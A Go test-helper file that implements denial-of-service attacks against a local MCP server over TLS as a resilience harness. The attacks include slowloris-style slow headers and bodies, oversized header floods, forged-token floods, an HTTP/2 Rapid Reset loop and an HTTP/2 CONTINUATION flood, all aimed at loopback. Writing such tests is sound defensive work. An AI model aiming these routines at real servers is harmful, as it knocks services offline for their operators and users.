package clients

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// An attack goes on until the context ends. It comes from 127.0.0.2, where it can.
type attack func(ctx context.Context, s *site)

// many runs n attackers at once, each over and over.
func many(n int, one attack) attack {
	return func(ctx context.Context, s *site) {
		var all sync.WaitGroup
		for range n {
			all.Go(func() {
				for ctx.Err() == nil {
					one(ctx, s)
					pause(ctx, 10*time.Millisecond)
				}
			})
		}
		all.Wait()
	}
}

func tool(path string, args ...string) attack {
	return func(ctx context.Context, _ *site) {
		cmd := exec.CommandContext(ctx, path, args...)
		_ = cmd.Run() // it is ended with the test
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// dial connects from the attacker's address. The connection ends with the context.
func dial(ctx context.Context, s *site) net.Conn {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}, Timeout: 5 * time.Second}
	_, port, _ := net.SplitHostPort(s.Addr)
	c, err := d.DialContext(ctx, "tcp4", "127.0.0.1:"+port)
	if err != nil {
		return nil
	}
	context.AfterFunc(ctx, func() { _ = c.Close() })
	return c
}

// secure connects over TLS.
func secure(ctx context.Context, s *site, protocol string) *tls.Conn {
	raw := dial(ctx, s)
	if raw == nil {
		return nil
	}
	config := s.TLS.Clone()
	config.ServerName, config.NextProtos = "localhost", []string{protocol}
	c := tls.Client(raw, config)
	if err := c.HandshakeContext(ctx); err != nil {
		_ = raw.Close()
		return nil
	}
	return c
}

// drain waits until the server closes.
func drain(c net.Conn) { _, _ = io.Copy(io.Discard, c); _ = c.Close() }

func silent(ctx context.Context, s *site) {
	if c := dial(ctx, s); c != nil {
		drain(c)
	}
}

func stalled(ctx context.Context, s *site) {
	if c := dial(ctx, s); c != nil {
		_, _ = c.Write([]byte{22, 3, 1, 2, 0, 1}) // the start of a ClientHello
		drain(c)
	}
}

func halfClosed(ctx context.Context, s *site) {
	if c := secure(ctx, s, "http/1.1"); c != nil {
		_, _ = io.WriteString(c, "POST /mcp HTTP/1.1\r\nHost: "+s.Addr+"\r\n")
		_ = c.CloseWrite()
		drain(c)
	}
}

// drip writes a line now and then, as long as the server listens.
func drip(ctx context.Context, c net.Conn, line string) {
	for ctx.Err() == nil {
		if _, err := io.WriteString(c, line); err != nil {
			break
		}
		pause(ctx, 200*time.Millisecond)
	}
	_ = c.Close()
}

func slowHeader(ctx context.Context, s *site) {
	if c := secure(ctx, s, "http/1.1"); c != nil {
		_, _ = io.WriteString(c, "POST /mcp HTTP/1.1\r\nHost: "+s.Addr+"\r\n")
		drip(ctx, c, "X-Slow: 1\r\n")
	}
}

func slowBody(ctx context.Context, s *site) {
	if c := secure(ctx, s, "http/1.1"); c != nil {
		_, _ = fmt.Fprintf(c, "POST /mcp HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"+
			"Authorization: Bearer %s\r\nMcp-Protocol-Version: 2026-07-28\r\nContent-Length: 100000\r\n\r\n{", s.Addr, s.MalloryToken)
		drip(ctx, c, " ")
	}
}

func hugeHeaders(ctx context.Context, s *site) {
	c := secure(ctx, s, "http/1.1")
	if c == nil {
		return
	}
	_, err := io.WriteString(c, "POST /mcp HTTP/1.1\r\nHost: "+s.Addr+"\r\n")
	for line := "X-Huge: " + strings.Repeat("x", 4000) + "\r\n"; err == nil && ctx.Err() == nil; {
		_, err = io.WriteString(c, line)
	}
	_ = c.Close()
}

func forgedTokens(ctx context.Context, s *site) {
	c := secure(ctx, s, "http/1.1")
	if c == nil {
		return
	}
	go func() { drain(c) }()
	for n := 0; ctx.Err() == nil; n++ {
		_, err := fmt.Fprintf(c, "POST /mcp HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAuthorization: Bearer %s\r\nContent-Length: %s\r\n\r\n%s",
			s.Addr, forged(s.Token), strconv.Itoa(len(call)), call)
		if err != nil {
			break
		}
		pause(ctx, time.Millisecond)
	}
	_ = c.Close()
}

// frames starts HTTP/2 as an attacker does: with nothing that the protocol asks of him but
// the preface.
func frames(ctx context.Context, s *site) (*http2.Framer, net.Conn) {
	c := secure(ctx, s, "h2")
	if c == nil {
		return nil, nil
	}
	_, _ = io.WriteString(c, http2.ClientPreface)
	f := http2.NewFramer(c, c)
	_ = f.WriteSettings()
	go func() { drain(c) }()
	return f, c
}

func rapidReset(ctx context.Context, s *site) {
	f, c := frames(ctx, s)
	if f == nil {
		return
	}
	defer c.Close()
	head := hpacked(":method", "POST", ":scheme", "https", ":authority", s.Addr, ":path", "/mcp")
	for id := uint32(1); id < 1<<30 && ctx.Err() == nil; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}) != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
		pause(ctx, time.Millisecond) // the attacker's work must not take the server's cores
	}
}

func continuationFlood(ctx context.Context, s *site) {
	f, c := frames(ctx, s)
	if f == nil {
		return
	}
	defer c.Close()
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hpacked(":method", "POST")}) != nil {
		return
	}
	for more := hpacked("x-more", strings.Repeat("y", 1000)); ctx.Err() == nil; {
		if f.WriteContinuation(1, false, more) != nil {
			return
		}
	}
}
